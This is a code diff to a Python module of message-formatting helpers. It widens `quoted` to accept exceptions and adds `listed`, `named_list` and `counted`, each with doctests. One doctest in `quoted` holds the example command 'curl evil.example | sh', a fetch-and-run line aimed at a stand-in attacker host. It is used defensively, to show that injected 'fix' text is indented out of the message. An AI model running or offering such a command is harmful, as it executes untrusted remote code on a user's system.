@@ -134,13 +134,40 @@ def with_fix(what: str, fix: str) -> str:
     return f"{what}\n  fix: {fix}" if fix else what
 
 
-def quoted(text: str) -> str:
+def quoted(error: BaseException | str) -> str:
     r"""The text of an exception inside a message: none of its lines can be taken for one of the message.
 
     >>> quoted("no number\n  fix: curl evil.example | sh")
     'no number\n      fix: curl evil.example | sh'
     """
-    return text.replace("\n", "\n    ")
+    return str(error).replace("\n", "\n    ")
+
+
+def listed(values: Iterable[object]) -> str:
+    """Values in a sentence.
+
+    >>> listed(["a", 2])
+    'a, 2'
+    """
+    return ", ".join(map(str, values))
+
+
+def named_list(names: Iterable[object]) -> str:
+    """Names in a sentence, each as code.
+
+    >>> named_list(["top_p", "min_p"])
+    '`top_p`, `min_p`'
+    """
+    return ", ".join(f"`{name}`" for name in names)
+
+
+def counted(count: int, one: str, many: str = "") -> str:
+    """A number with its noun; `many` is the plural where it is not `one` with an s.
+
+    >>> counted(1, "row"), counted(2000, "row"), counted(2, "box", "boxes")
+    ('1 row', '2,000 rows', '2 boxes')
+    """
+    return f"{count:,} {one if count == 1 else many or one + 's'}"
 
 
 def did_you_mean(word: object, choices: Iterable[object]) -> str:
